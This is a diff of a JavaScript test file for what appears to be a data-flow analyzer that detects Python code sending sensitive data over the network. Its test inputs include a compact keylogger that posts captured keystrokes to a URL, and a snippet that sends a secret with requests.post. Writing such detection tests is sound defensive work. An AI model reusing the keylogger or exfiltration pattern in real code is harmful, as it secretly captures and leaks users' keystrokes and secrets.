@@ -79,3 +79,7 @@ test('what is typed goes to the function that is told of it', async () => {
   const { facts } = await read('import requests\nfrom pynput.keyboard import Listener\nkeys = []\ndef told(key):\n    keys.append(str(key))\n    requests.post(u, data="".join(keys))\nwith Listener(on_press=told) as listener:\n    listener.join()\n');
   expect(facts?.flows({ from: 'observation', to: 'network' })).toMatchObject([{ when: 'import', source: { name: 'pynput.keyboard.Listener' } }]);
 });
+
+test('names of secrets do not hide a secret behind them', async () => {
+  expect(await sentIn('names = ["A_TOKEN", "B_TOKEN", "C_TOKEN", "D_TOKEN", "E_TOKEN", "F_TOKEN", "G_TOKEN"]\nrequests.post(u, json=[names[0], names, secret])')).toEqual(['requests.post']);
+});
